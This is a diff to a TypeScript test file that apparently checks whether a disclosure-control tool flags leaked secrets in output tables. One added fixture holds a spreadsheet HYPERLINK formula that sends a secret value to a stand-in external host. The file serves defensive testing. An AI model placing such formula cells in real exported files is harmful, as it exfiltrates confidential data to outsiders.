@@ -36,6 +36,11 @@ const REPORTED: Array<[string, SdcOutputType, string, string?]> = [
   ],
 ];
 
+REPORTED.push(
+  ["a formula cell", "frequency", `group,count\n"=HYPERLINK(""https://x.example/?${SECRET}"")",12\n`],
+  ["a table declared other", "other", `group,count\n${SECRET} diabetes,3\n`],
+);
+
 const REFUSED: Array<[string, SdcOutputType, string]> = [
   ["a header that names a column twice", "frequency", `${SECRET},${SECRET}\n1,2\n`],
   ["a field that opens a quote in the middle", "frequency", `group,count\n"a",x"${SECRET}"\n"b\n`],
